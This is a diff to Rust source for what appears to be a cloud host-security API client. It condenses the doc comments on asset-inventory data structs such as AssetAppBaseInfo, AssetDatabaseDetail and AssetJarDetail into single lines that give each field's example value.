@@ -9,14 +9,10 @@ use ::tc_core::tc_model;
 #[doc(alias = "ABTestConfig")]
 #[tc_model]
 pub struct AbTestConfig {
-    /// `ProjectName`: a string.
-    ///
-    /// Example: `"agent 升级"`
+    /// `ProjectName`; example: `"agent 升级"`
     pub project_name: String,
 
-    /// `Status`: a boolean.
-    ///
-    /// Example: `true`
+    /// `Status`; example: `true`
     pub status: bool,
 }
 
@@ -25,14 +21,10 @@ pub struct AbTestConfig {
 /// Returned in the output of [`DescribeAccountStatistics`](super::DescribeAccountStatistics).
 #[tc_model]
 pub struct AccountStatistics {
-    /// `Username`: a string.
-    ///
-    /// Example: `"name1"`
+    /// `Username`; example: `"name1"`
     pub username: String,
 
-    /// `MachineNum`: an unsigned 64-bit integer.
-    ///
-    /// Example: `100`
+    /// `MachineNum`; example: `100`
     pub machine_num: u64,
 }
 
@@ -41,14 +33,10 @@ pub struct AccountStatistics {
 /// Returned in the output of [`DescribeVertexDetail`](super::DescribeVertexDetail).
 #[tc_model]
 pub struct AlarmInfo {
-    /// `AlarmId`: a string.
-    ///
-    /// Example: `"events_risk_dns:10000"`
+    /// `AlarmId`; example: `"events_risk_dns:10000"`
     pub alarm_id: String,
 
-    /// `Status`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: i64,
 }
 
@@ -57,97 +45,61 @@ pub struct AlarmInfo {
 /// Returned in the output of [`DescribeAssetAppList`](super::DescribeAssetAppList).
 #[tc_model]
 pub struct AssetAppBaseInfo {
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"10.0.0.11"`
+    /// `MachineIp`; example: `"10.0.0.11"`
     pub machine_ip: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"agentyo"`
+    /// `MachineName`; example: `"agentyo"`
     pub machine_name: String,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"112.54.**.**"`
+    /// `MachineWanIp`; example: `"112.54.**.**"`
     pub machine_wan_ip: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `ProjectId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ProjectId`; example: `1`
     pub project_id: u64,
 
-    /// `Tag`: a list of [`MachineTag`] objects.
-    ///
-    /// Example: `[{"Name":"tag-01","Rid":0,"TagId":1}]`
+    /// `Tag`; example: `[{"Name":"tag-01","Rid":0,"TagId":1}]`
     pub tag: Vec<MachineTag>,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"php"`
+    /// `Name`; example: `"php"`
     pub name: String,
 
-    /// `Type`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Type`; example: `1`
     pub r#type: u64,
 
-    /// `BinPath`: a string.
-    ///
-    /// Example: `"/root"`
+    /// `BinPath`; example: `"/root"`
     pub bin_path: String,
 
-    /// `OsInfo`: a string.
-    ///
-    /// Example: `"centos 64bit"`
+    /// `OsInfo`; example: `"centos 64bit"`
     pub os_info: String,
 
-    /// `ProcessCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ProcessCount`; example: `1`
     pub process_count: u64,
 
-    /// `Desc`: a string.
-    ///
-    /// Example: `"app info"`
+    /// `Desc`; example: `"app info"`
     pub desc: String,
 
-    /// `Version`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Version`; example: `"1"`
     pub version: String,
 
-    /// `ConfigPath`: a string.
-    ///
-    /// Example: `"/root"`
+    /// `ConfigPath`; example: `"/root"`
     pub config_path: String,
 
-    /// `FirstTime`: a string.
-    ///
-    /// Example: `"2022-07-15 11:27:01"`
+    /// `FirstTime`; example: `"2022-07-15 11:27:01"`
     pub first_time: String,
 
-    /// `UpdateTime`: a string.
-    ///
-    /// Example: `"2011-11-11 12:12:12"`
+    /// `UpdateTime`; example: `"2011-11-11 12:12:12"`
     pub update_time: String,
 
-    /// `IsNew`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsNew`; example: `1`
     pub is_new: i64,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 }
 
@@ -156,34 +108,22 @@ pub struct AssetAppBaseInfo {
 /// Returned in the output of [`DescribeAssetAppProcessList`](super::DescribeAssetAppProcessList), [`DescribeAssetJarInfo`](super::DescribeAssetJarInfo) and [`DescribeAssetWebServiceProcessList`](super::DescribeAssetWebServiceProcessList).
 #[tc_model]
 pub struct AssetAppProcessInfo {
-    /// `Name`: a string.
-    ///
-    /// Example: `"sshd"`
+    /// `Name`; example: `"sshd"`
     pub name: String,
 
-    /// `Status`: a string.
-    ///
-    /// Example: `"\"S\""`
+    /// `Status`; example: `"\"S\""`
     pub status: String,
 
-    /// `Version`: a string.
-    ///
-    /// Example: `"1.1.1"`
+    /// `Version`; example: `"1.1.1"`
     pub version: String,
 
-    /// `Path`: a string.
-    ///
-    /// Example: `"/usr/bin/sshd"`
+    /// `Path`; example: `"/usr/bin/sshd"`
     pub path: String,
 
-    /// `User`: a string.
-    ///
-    /// Example: `"root"`
+    /// `User`; example: `"root"`
     pub user: String,
 
-    /// `StartTime`: a string.
-    ///
-    /// Example: `"2024-10-23 14:17:00"`
+    /// `StartTime`; example: `"2024-10-23 14:17:00"`
     pub start_time: String,
 }
 
@@ -192,94 +132,58 @@ pub struct AssetAppProcessInfo {
 /// Returned in the output of [`DescribeAssetCoreModuleList`](super::DescribeAssetCoreModuleList).
 #[tc_model]
 pub struct AssetCoreModuleBaseInfo {
-    /// `Name`: a string.
-    ///
-    /// Example: `"core.package"`
+    /// `Name`; example: `"core.package"`
     pub name: String,
 
-    /// `Desc`: a string.
-    ///
-    /// Example: `"system"`
+    /// `Desc`; example: `"system"`
     pub desc: String,
 
-    /// `Path`: a string.
-    ///
-    /// Example: `"/root"`
+    /// `Path`; example: `"/root"`
     pub path: String,
 
-    /// `Version`: a string.
-    ///
-    /// Example: `"1.0.0.1"`
+    /// `Version`; example: `"1.0.0.1"`
     pub version: String,
 
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `MachineIp`; example: `"1.1.1.1"`
     pub machine_ip: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"test-ins"`
+    /// `MachineName`; example: `"test-ins"`
     pub machine_name: String,
 
-    /// `OsInfo`: a string.
-    ///
-    /// Example: `"centos-64bit"`
+    /// `OsInfo`; example: `"centos-64bit"`
     pub os_info: String,
 
-    /// `Size`: an unsigned 64-bit integer.
-    ///
-    /// Example: `10001`
+    /// `Size`; example: `10001`
     pub size: u64,
 
-    /// `ProcessCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `ProcessCount`; example: `0`
     pub process_count: u64,
 
-    /// `ModuleCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `ModuleCount`; example: `0`
     pub module_count: u64,
 
-    /// `Id`: a string.
-    ///
-    /// Example: `"10001"`
+    /// `Id`; example: `"10001"`
     pub id: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `UpdateTime`: a string.
-    ///
-    /// Example: `"2011-11-11 12:12:12"`
+    /// `UpdateTime`; example: `"2011-11-11 12:12:12"`
     pub update_time: String,
 
-    /// `FirstTime`: a string.
-    ///
-    /// Example: `"2022-07-15 11:27:01"`
+    /// `FirstTime`; example: `"2022-07-15 11:27:01"`
     pub first_time: String,
 
-    /// `IsNew`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsNew`; example: `1`
     pub is_new: i64,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `MachineWanIp`; example: `"1.1.1.1"`
     pub machine_wan_ip: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
-    ///
-    /// Example: `{"InstanceID":"ins-id"}`
+    /// `MachineExtraInfo`; example: `{"InstanceID":"ins-id"}`
     pub machine_extra_info: Option<MachineExtraInfo>,
 }
 
@@ -288,49 +192,31 @@ pub struct AssetCoreModuleBaseInfo {
 /// Returned in the output of [`DescribeAssetCoreModuleInfo`](super::DescribeAssetCoreModuleInfo).
 #[tc_model]
 pub struct AssetCoreModuleDetail {
-    /// `Name`: a string.
-    ///
-    /// Example: `"teat"`
+    /// `Name`; example: `"teat"`
     pub name: String,
 
-    /// `Desc`: a string.
-    ///
-    /// Example: `"module"`
+    /// `Desc`; example: `"module"`
     pub desc: String,
 
-    /// `Path`: a string.
-    ///
-    /// Example: `"/root"`
+    /// `Path`; example: `"/root"`
     pub path: String,
 
-    /// `Version`: a string.
-    ///
-    /// Example: `"1.0.1"`
+    /// `Version`; example: `"1.0.1"`
     pub version: String,
 
-    /// `Size`: an unsigned 64-bit integer.
-    ///
-    /// Example: `102`
+    /// `Size`; example: `102`
     pub size: u64,
 
-    /// `Processes`: a string.
-    ///
-    /// Example: `"10011"`
+    /// `Processes`; example: `"10011"`
     pub processes: String,
 
-    /// `Modules`: a string.
-    ///
-    /// Example: `"module"`
+    /// `Modules`; example: `"module"`
     pub modules: String,
 
-    /// `Params`: a list of [`AssetCoreModuleParam`] objects.
-    ///
-    /// Example: `[{"Data":"123321","Name":"hashsize"}]`
+    /// `Params`; example: `[{"Data":"123321","Name":"hashsize"}]`
     pub params: Vec<AssetCoreModuleParam>,
 
-    /// `UpdateTime`: a string.
-    ///
-    /// Example: `"2011-11-11 12:12:12"`
+    /// `UpdateTime`; example: `"2011-11-11 12:12:12"`
     pub update_time: String,
 }
 
@@ -339,14 +225,10 @@ pub struct AssetCoreModuleDetail {
 /// Returned in the output of [`DescribeAssetCoreModuleInfo`](super::DescribeAssetCoreModuleInfo).
 #[tc_model]
 pub struct AssetCoreModuleParam {
-    /// `Name`: a string.
-    ///
-    /// Example: `"hashsize"`
+    /// `Name`; example: `"hashsize"`
     pub name: String,
 
-    /// `Data`: a string.
-    ///
-    /// Example: `"16384"`
+    /// `Data`; example: `"16384"`
     pub data: String,
 }
 
@@ -355,137 +237,85 @@ pub struct AssetCoreModuleParam {
 /// Returned in the output of [`DescribeAssetDatabaseList`](super::DescribeAssetDatabaseList).
 #[tc_model]
 pub struct AssetDatabaseBaseInfo {
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"10.0.0.11"`
+    /// `MachineIp`; example: `"10.0.0.11"`
     pub machine_ip: String,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"112.41.55.12"`
+    /// `MachineWanIp`; example: `"112.41.55.12"`
     pub machine_wan_ip: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `OsInfo`: a string.
-    ///
-    /// Example: `"Centos 64Bit"`
+    /// `OsInfo`; example: `"Centos 64Bit"`
     pub os_info: String,
 
-    /// `ProjectId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ProjectId`; example: `1`
     pub project_id: u64,
 
-    /// `Tag`: a list of [`MachineTag`] objects.
-    ///
-    /// Example: `[{"Name":"tag-01","Rid":0,"TagId":1}]`
+    /// `Tag`; example: `[{"Name":"tag-01","Rid":0,"TagId":1}]`
     pub tag: Vec<MachineTag>,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"root"`
+    /// `Name`; example: `"root"`
     pub name: String,
 
-    /// `Version`: a string.
-    ///
-    /// Example: `"1.1.1"`
+    /// `Version`; example: `"1.1.1"`
     pub version: String,
 
-    /// `Port`: a string.
-    ///
-    /// Example: `"22"`
+    /// `Port`; example: `"22"`
     pub port: String,
 
-    /// `Proto`: a string.
-    ///
-    /// Example: `"tcp"`
+    /// `Proto`; example: `"tcp"`
     pub proto: String,
 
-    /// `User`: a string.
-    ///
-    /// Example: `"root"`
+    /// `User`; example: `"root"`
     pub user: String,
 
-    /// `Ip`: a string.
-    ///
-    /// Example: `"112.52.67.8"`
+    /// `Ip`; example: `"112.52.67.8"`
     pub ip: String,
 
-    /// `ConfigPath`: a string.
-    ///
-    /// Example: `"/etc/sshd"`
+    /// `ConfigPath`; example: `"/etc/sshd"`
     pub config_path: String,
 
-    /// `LogPath`: a string.
-    ///
-    /// Example: `"/var/log"`
+    /// `LogPath`; example: `"/var/log"`
     pub log_path: String,
 
-    /// `DataPath`: a string.
-    ///
-    /// Example: `"/data"`
+    /// `DataPath`; example: `"/data"`
     pub data_path: String,
 
-    /// `Permission`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Permission`; example: `"1"`
     pub permission: String,
 
-    /// `ErrorLogPath`: a string.
-    ///
-    /// Example: `"/var/log"`
+    /// `ErrorLogPath`; example: `"/var/log"`
     pub error_log_path: String,
 
-    /// `PlugInPath`: a string.
-    ///
-    /// Example: `"/data"`
+    /// `PlugInPath`; example: `"/data"`
     pub plug_in_path: String,
 
-    /// `BinPath`: a string.
-    ///
-    /// Example: `"/usr/local/bin"`
+    /// `BinPath`; example: `"/usr/local/bin"`
     pub bin_path: String,
 
-    /// `Param`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Param`; example: `"1"`
     pub param: String,
 
-    /// `Id`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Id`; example: `"1"`
     pub id: String,
 
-    /// `UpdateTime`: a string.
-    ///
-    /// Example: `"2011-11-11 12:12:12"`
+    /// `UpdateTime`; example: `"2011-11-11 12:12:12"`
     pub update_time: String,
 
-    /// `FirstTime`: a string.
-    ///
-    /// Example: `"2022-07-15 11:27:01"`
+    /// `FirstTime`; example: `"2022-07-15 11:27:01"`
     pub first_time: String,
 
-    /// `IsNew`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsNew`; example: `1`
     pub is_new: i64,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"tcs交付****"`
+    /// `MachineName`; example: `"tcs交付****"`
     pub machine_name: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 }
 
@@ -494,104 +324,64 @@ pub struct AssetDatabaseBaseInfo {
 /// Returned in the output of [`DescribeAssetDatabaseInfo`](super::DescribeAssetDatabaseInfo).
 #[tc_model]
 pub struct AssetDatabaseDetail {
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"10.0.0.11"`
+    /// `MachineIp`; example: `"10.0.0.11"`
     pub machine_ip: String,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `MachineWanIp`; example: `"1.1.1.1"`
     pub machine_wan_ip: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `OsInfo`: a string.
-    ///
-    /// Example: `"Centos 64Bit"`
+    /// `OsInfo`; example: `"Centos 64Bit"`
     pub os_info: String,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"MySQL"`
+    /// `Name`; example: `"MySQL"`
     pub name: String,
 
-    /// `Version`: a string.
-    ///
-    /// Example: `"5.6.7"`
+    /// `Version`; example: `"5.6.7"`
     pub version: String,
 
-    /// `Port`: a string.
-    ///
-    /// Example: `"3306"`
+    /// `Port`; example: `"3306"`
     pub port: String,
 
-    /// `Proto`: a string.
-    ///
-    /// Example: `"tcp"`
+    /// `Proto`; example: `"tcp"`
     pub proto: String,
 
-    /// `User`: a string.
-    ///
-    /// Example: `"nginx"`
+    /// `User`; example: `"nginx"`
     pub user: String,
 
-    /// `Ip`: a string.
-    ///
-    /// Example: `"0.0.0.0"`
+    /// `Ip`; example: `"0.0.0.0"`
     pub ip: String,
 
-    /// `ConfigPath`: a string.
-    ///
-    /// Example: `"/etc/mysqld"`
+    /// `ConfigPath`; example: `"/etc/mysqld"`
     pub config_path: String,
 
-    /// `LogPath`: a string.
-    ///
-    /// Example: `"/data/log"`
+    /// `LogPath`; example: `"/data/log"`
     pub log_path: String,
 
-    /// `DataPath`: a string.
-    ///
-    /// Example: `"/data/mysql"`
+    /// `DataPath`; example: `"/data/mysql"`
     pub data_path: String,
 
-    /// `Permission`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Permission`; example: `"1"`
     pub permission: String,
 
-    /// `ErrorLogPath`: a string.
-    ///
-    /// Example: `"/var/log"`
+    /// `ErrorLogPath`; example: `"/var/log"`
     pub error_log_path: String,
 
-    /// `PlugInPath`: a string.
-    ///
-    /// Example: `"/etc/mysql"`
+    /// `PlugInPath`; example: `"/etc/mysql"`
     pub plug_in_path: String,
 
-    /// `BinPath`: a string.
-    ///
-    /// Example: `"/usr/local/bin"`
+    /// `BinPath`; example: `"/usr/local/bin"`
     pub bin_path: String,
 
-    /// `Param`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Param`; example: `"1"`
     pub param: String,
 
-    /// `UpdateTime`: a string.
-    ///
-    /// Example: `"2011-11-11 12:12:12"`
+    /// `UpdateTime`; example: `"2011-11-11 12:12:12"`
     pub update_time: String,
 }
 
@@ -600,34 +390,22 @@ pub struct AssetDatabaseDetail {
 /// Returned in the output of [`DescribeAssetDiskList`](super::DescribeAssetDiskList) and [`DescribeAssetMachineDetail`](super::DescribeAssetMachineDetail).
 #[tc_model]
 pub struct AssetDiskPartitionInfo {
-    /// `Name`: a string.
-    ///
-    /// Example: `"/dev/vda1"`
+    /// `Name`; example: `"/dev/vda1"`
     pub name: String,
 
-    /// `Size`: an unsigned 64-bit integer.
-    ///
-    /// Example: `50`
+    /// `Size`; example: `50`
     pub size: u64,
 
-    /// `Percent`: a floating-point number.
-    ///
-    /// Example: `78.81294`
+    /// `Percent`; example: `78.81294`
     pub percent: f64,
 
-    /// `Type`: a string.
-    ///
-    /// Example: `"ext4"`
+    /// `Type`; example: `"ext4"`
     pub r#type: String,
 
-    /// `Path`: a string.
-    ///
-    /// Example: `"/data"`
+    /// `Path`; example: `"/data"`
     pub path: String,
 
-    /// `Used`: an unsigned 64-bit integer.
-    ///
-    /// Example: `26`
+    /// `Used`; example: `26`
     pub used: u64,
 }
 
@@ -636,72 +414,46 @@ pub struct AssetDiskPartitionInfo {
 /// Returned in the output of [`DescribeAssetEnvList`](super::DescribeAssetEnvList).
 #[tc_model]
 pub struct AssetEnvBaseInfo {
-    /// `Name`: a string.
-    ///
-    /// Example: `"name"`
+    /// `Name`; example: `"name"`
     pub name: String,
 
-    /// `Type`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Type`; example: `1`
     pub r#type: u64,
 
-    /// `User`: a string.
-    ///
-    /// Example: `"root"`
+    /// `User`; example: `"root"`
     pub user: String,
 
-    /// `Value`: a string.
-    ///
-    /// Example: `"env"`
+    /// `Value`; example: `"env"`
     pub value: String,
 
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `MachineIp`; example: `"1.1.1.1"`
     pub machine_ip: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"hname"`
+    /// `MachineName`; example: `"hname"`
     pub machine_name: String,
 
-    /// `OsInfo`: a string.
-    ///
-    /// Example: `"Linux"`
+    /// `OsInfo`; example: `"Linux"`
     pub os_info: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `UpdateTime`: a string.
-    ///
-    /// Example: `"2011-11-11 12:12:12"`
+    /// `UpdateTime`; example: `"2011-11-11 12:12:12"`
     pub update_time: String,
 
-    /// `FirstTime`: a string.
-    ///
-    /// Example: `"2022-07-15 11:27:01"`
+    /// `FirstTime`; example: `"2022-07-15 11:27:01"`
     pub first_time: String,
 
-    /// `IsNew`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsNew`; example: `1`
     pub is_new: i64,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `MachineWanIp`; example: `"1.1.1.1"`
     pub machine_wan_ip: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 }
 
@@ -710,15 +462,13 @@ pub struct AssetEnvBaseInfo {
 /// Sent in the input of [`DescribeAssetAppList`](super::DescribeAssetAppList), [`DescribeAssetCoreModuleList`](super::DescribeAssetCoreModuleList), [`DescribeAssetDatabaseList`](super::DescribeAssetDatabaseList), [`DescribeAssetEnvList`](super::DescribeAssetEnvList), [`DescribeAssetInitServiceList`](super::DescribeAssetInitServiceList), [`DescribeAssetJarList`](super::DescribeAssetJarList) and 16 more.
 #[tc_model]
 pub struct AssetFilters {
-    /// `Name`: a string.
-    ///
-    /// Example: `"IpOrA****"`
+    /// `Name`; example: `"IpOrA****"`
     pub name: String,
 
-    /// `Values`: a list of strings.
+    /// `Values`
     pub values: Vec<String>,
 
-    /// `ExactMatch`: a boolean.
+    /// `ExactMatch`
     pub exact_match: Option<bool>,
 }
 
@@ -727,82 +477,52 @@ pub struct AssetFilters {
 /// Returned in the output of [`DescribeAssetInitServiceList`](super::DescribeAssetInitServiceList).
 #[tc_model]
 pub struct AssetInitServiceBaseInfo {
-    /// `Name`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Name`; example: `"1"`
     pub name: String,
 
-    /// `Type`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Type`; example: `1`
     pub r#type: u64,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `User`: a string.
-    ///
-    /// Example: `"1"`
+    /// `User`; example: `"1"`
     pub user: String,
 
-    /// `Path`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Path`; example: `"1"`
     pub path: String,
 
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"1"`
+    /// `MachineIp`; example: `"1"`
     pub machine_ip: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"1"`
+    /// `MachineName`; example: `"1"`
     pub machine_name: String,
 
-    /// `OsInfo`: a string.
-    ///
-    /// Example: `"1"`
+    /// `OsInfo`; example: `"1"`
     pub os_info: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `UpdateTime`: a string.
-    ///
-    /// Example: `"2011-11-11 12:12:12"`
+    /// `UpdateTime`; example: `"2011-11-11 12:12:12"`
     pub update_time: String,
 
-    /// `FirstTime`: a string.
-    ///
-    /// Example: `"2022-07-15 11:27:01"`
+    /// `FirstTime`; example: `"2022-07-15 11:27:01"`
     pub first_time: String,
 
-    /// `IsNew`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsNew`; example: `1`
     pub is_new: i64,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"43.156.40.46"`
+    /// `MachineWanIp`; example: `"43.156.40.46"`
     pub machine_wan_ip: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 
-    /// `IsAutoRun`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsAutoRun`; example: `1`
     pub is_auto_run: Option<i64>,
 }
 
@@ -811,87 +531,55 @@ pub struct AssetInitServiceBaseInfo {
 /// Returned in the output of [`DescribeAssetJarList`](super::DescribeAssetJarList).
 #[tc_model]
 pub struct AssetJarBaseInfo {
-    /// `Name`: a string.
-    ///
-    /// Example: `"com.apple.util"`
+    /// `Name`; example: `"com.apple.util"`
     pub name: String,
 
-    /// `Type`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Type`; example: `1`
     pub r#type: i64,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `Version`: a string.
-    ///
-    /// Example: `"1.0.1"`
+    /// `Version`; example: `"1.0.1"`
     pub version: String,
 
-    /// `Path`: a string.
-    ///
-    /// Example: `"/root"`
+    /// `Path`; example: `"/root"`
     pub path: String,
 
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"10.0.0.11"`
+    /// `MachineIp`; example: `"10.0.0.11"`
     pub machine_ip: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"test-instance"`
+    /// `MachineName`; example: `"test-instance"`
     pub machine_name: String,
 
-    /// `OsInfo`: a string.
-    ///
-    /// Example: `"centos 64bit"`
+    /// `OsInfo`; example: `"centos 64bit"`
     pub os_info: String,
 
-    /// `Id`: a string.
-    ///
-    /// Example: `"1024"`
+    /// `Id`; example: `"1024"`
     pub id: String,
 
-    /// `Md5`: a string.
-    ///
-    /// Example: `"fc702c8398071ea3697d449c2b894dae"`
+    /// `Md5`; example: `"fc702c8398071ea3697d449c2b894dae"`
     pub md5: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `UpdateTime`: a string.
-    ///
-    /// Example: `"2011-11-11 12:12:12"`
+    /// `UpdateTime`; example: `"2011-11-11 12:12:12"`
     pub update_time: String,
 
-    /// `FirstTime`: a string.
-    ///
-    /// Example: `"2022-07-15 11:27:01"`
+    /// `FirstTime`; example: `"2022-07-15 11:27:01"`
     pub first_time: String,
 
-    /// `IsNew`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsNew`; example: `1`
     pub is_new: i64,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `MachineWanIp`; example: `"1.1.1.1"`
     pub machine_wan_ip: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 }
 
@@ -900,57 +588,37 @@ pub struct AssetJarBaseInfo {
 /// Returned in the output of [`DescribeAssetJarInfo`](super::DescribeAssetJarInfo).
 #[tc_model]
 pub struct AssetJarDetail {
-    /// `Name`: a string.
-    ///
-    /// Example: `"com.apple.utils"`
+    /// `Name`; example: `"com.apple.utils"`
     pub name: String,
 
-    /// `Type`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Type`; example: `1`
     pub r#type: i64,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `Version`: a string.
-    ///
-    /// Example: `"1.0.0"`
+    /// `Version`; example: `"1.0.0"`
     pub version: String,
 
-    /// `Path`: a string.
-    ///
-    /// Example: `"/root"`
+    /// `Path`; example: `"/root"`
     pub path: String,
 
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"10.0.0.11"`
+    /// `MachineIp`; example: `"10.0.0.11"`
     pub machine_ip: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"test-ins"`
+    /// `MachineName`; example: `"test-ins"`
     pub machine_name: String,
 
-    /// `OsInfo`: a string.
-    ///
-    /// Example: `"1"`
+    /// `OsInfo`; example: `"1"`
     pub os_info: String,
 
-    /// `Process`: a list of [`AssetAppProcessInfo`] objects.
+    /// `Process`
     pub process: Vec<AssetAppProcessInfo>,
 
-    /// `Md5`: a string.
-    ///
-    /// Example: `"fc702c8398071ea3697d449c2b894dae"`
+    /// `Md5`; example: `"fc702c8398071ea3697d449c2b894dae"`
     pub md5: String,
 
